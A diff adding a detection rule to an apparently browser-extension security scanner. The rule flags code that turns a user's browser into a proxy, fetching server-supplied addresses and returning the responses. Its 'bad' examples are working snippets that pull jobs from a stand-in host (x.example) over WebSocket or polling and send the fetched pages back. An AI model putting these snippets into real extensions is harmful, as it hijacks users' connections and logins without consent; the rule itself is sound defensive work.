@@ -1,0 +1,40 @@
+import { apiPath } from '../../facts/javascript/query.ts';
+import { defineRule } from '../../rule.ts';
+import { backgroundExample, checkScripts } from './checkScripts.ts';
+import { isFromServer, requestsOf } from './network.ts';
+import { originPaths } from './origins.ts';
+import { leavesBy } from './sendings.ts';
+
+export const fetchesForOthers = defineRule({
+  id: 'fetches-for-others',
+  title: 'Pages are fetched for somebody else through this computer',
+  severity: 'high',
+  confidence: 'medium',
+  category: 'code',
+  applies: 'extension',
+  cwe: 'CWE-441',
+  references: ['https://attack.mitre.org/techniques/T1090/', 'https://developer.chrome.com/docs/webstore/program-policies/malicious-and-prohibited'],
+  why: 'A server sends addresses, the browser fetches them with the address and the log-ins of the person, and sends the answers back. The connection is rented out, whatever is done with it.',
+  remedy: 'Take this out; nobody’s connection may be used without a clear agreement.',
+  check: checkScripts(function* ({ script, hit }) {
+    for (const request of requestsOf(script)) {
+      const path = apiPath(script, script.a[request.value] as number);
+      if (path !== 'fetch' && path !== 'XMLHttpRequest().open' && path !== 'axios.get' && path !== 'axios') continue;
+      if (!request.to.startsWith('*') || !isFromServer(script, request.address)) continue;
+      const ordered = originPaths(script, request.address).has('WebSocket');
+      const out = leavesBy(script, new Set([request.value]), ['network']);
+      if (out === undefined || out.value === request.value) continue;
+      yield hit(request.value, ordered ? { confidence: 'high' } : { severity: 'medium', message: `The answer goes to ${out.to}.` });
+    }
+  }),
+  examples: {
+    bad: [
+      backgroundExample('const ws = new WebSocket("wss://x.example/node"); ws.onmessage = async (e) => { const job = JSON.parse(e.data); const r = await fetch(job.url, job.options); ws.send(JSON.stringify({ id: job.id, body: await r.text() })); };'),
+      backgroundExample('async function work() { const job = await (await fetch("https://x.example/job")).json(); const page = await (await fetch(job.url)).text(); await fetch("https://x.example/done", { method: "POST", body: page }); } setInterval(work, 60000);'),
+    ],
+    good: [
+      backgroundExample('async function all() { let url = "https://api.example.com/items"; while (url) { const d = await (await fetch(url)).json(); keep(d.items); url = d.next; } }'),
+      backgroundExample('const ws = new WebSocket("wss://chat.example"); ws.onmessage = (e) => show(e.data); fetch("https://api.example.com/x").then((r) => r.text()).then(show);'),
+    ],
+  },
+});
